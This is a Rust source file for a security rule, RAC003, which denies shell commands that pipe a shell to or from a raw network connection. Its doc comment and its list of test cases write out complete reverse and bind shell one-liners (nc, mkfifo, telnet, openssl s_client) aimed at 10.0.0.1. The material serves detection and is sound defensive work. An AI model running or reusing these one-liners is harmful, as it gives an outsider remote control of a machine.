//! A shell whose input comes from, or whose output goes to, a raw network
//! connection: `nc h p | sh`, `mkfifo f; cat f | sh -i 2>&1 | nc h p > f`,
//! `telnet h 1 | /bin/sh | telnet h 2`, `openssl s_client … | bash`.
//!
//! Inspects every command: the IR marks which programs execute their stdin.

use crate::rules::prelude::*;
use crate::rules::shared::sessions::{downstream, interactive_shell, is_connector};

pub(crate) static RULE: Rule = Rule {
    code: "RAC003",
    name: "shell-piped-through-network",
    category: Category::RemoteAccess,
    decision: Decision::Deny,
    commands: &[],
    summary: "runs a shell fed by, or feeding, a raw network connection",
    why: "A shell bridged to a socket is a reverse or bind shell: remote control of the machine.",
    check,
    fires: &[
        "nc 10.0.0.1 4444 | sh",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f",
        "mkfifo /tmp/p; sh </tmp/p | nc 10.0.0.1 4444 >/tmp/p",
        "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
        "openssl s_client -quiet -connect 10.0.0.1:443 | /bin/sh",
        "nc -lvnp 4444 | bash",
        "bash -c 'ncat 10.0.0.1 4444 | sudo sh'",
        "sh -i 2>&1 | tee /tmp/log | nc 10.0.0.1 9000",
    ],
    passes: &["nc -z localhost 5432 && bash run.sh", "curl -s https://example.com | jq .", "bash build.sh | tee log.txt", "echo ok | nc localhost 9000"],
};

fn check(cmd: &Command, cx: &Context<'_>) -> Option<Hit> {
    if !interactive_shell(cmd) {
        return None;
    }
    if let Some(src) = upstream(cx.script, cmd).find(|c| is_connector(c)) {
        return Some(Hit::command().with_message(format!("`{}` runs commands received by `{}`", cmd.name, src.name)));
    }
    let sink = downstream(cx.script, cmd).into_iter().find(|c| is_connector(c))?;
    Some(Hit::command().with_message(format!("`{}` sends its session to `{}`", cmd.name, sink.name)))
}
